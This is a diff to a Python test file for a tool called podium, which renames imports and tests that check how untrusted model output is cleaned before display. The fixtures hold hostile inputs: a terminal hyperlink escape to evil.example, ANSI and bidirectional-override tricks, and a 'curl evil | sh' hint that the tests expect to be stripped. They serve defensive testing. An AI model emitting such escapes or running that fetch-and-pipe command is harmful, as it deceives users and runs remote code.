@@ -9,9 +9,9 @@ import pytest
 from podium import api, data
 from podium.display import live, printing
 from podium.errors import ModelError, PodiumError, in_one_line
-from podium.runs import limits
-from podium.runs.limits import Printed
-from podium.runs.watching import _refusal
+from podium.execution import output
+from podium.execution.output import Printed
+from podium.execution.worker import _refusal
 
 LINK = "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\"
 WORDS = ["\x1b[31mred", LINK, "[bold]loud[/bold]", "[/]", "\x9b2J", "\u202egnp", "a\nerror: ours"]
@@ -81,7 +81,7 @@ def test_prints_of_models_keep_lines_and_bars_alone():
 
 
 def test_escapes_count_as_they_are_shown(monkeypatch):
-    monkeypatch.setattr(limits, "PRINTED", 10)
+    monkeypatch.setattr(output, "PRINTED", 10)
     stream = io.StringIO()
     printed = Printed(stream)
     for _ in range(5):
@@ -150,7 +150,7 @@ def rows(toy):
     return "rows.csv"
 
 
-def test_in_this_process_too(workspace, rows):
+def test_also_of_what_predicts_rows(workspace, rows):
     error = 'ModelError("The board is broken.", hint="curl evil | sh")'
     (workspace / "mine.py").write_text(SPEAKS.replace("ERROR", error).replace("NAME", "'a'"))
     with pytest.raises(ModelError) as told:
@@ -161,10 +161,10 @@ def test_in_this_process_too(workspace, rows):
     assert told.value.hint == ""
 
 
-def test_what_podium_says_to_a_users_file_stays_as_it_is(workspace, rows):
+def test_what_podium_says_to_a_users_file_comes_by_its_process_too(workspace, rows):
     text = SPEAKS.replace("raise ERROR", "list(train.slices())").replace("NAME", "'a'")
     (workspace / "mine.py").write_text(text)
-    with pytest.raises(ModelError, match=r"^This competition has no counts"):
+    with pytest.raises(ModelError, match=r"process says: This competition has no counts"):
         api.predict("toy", "mine.py", rows)
 
 
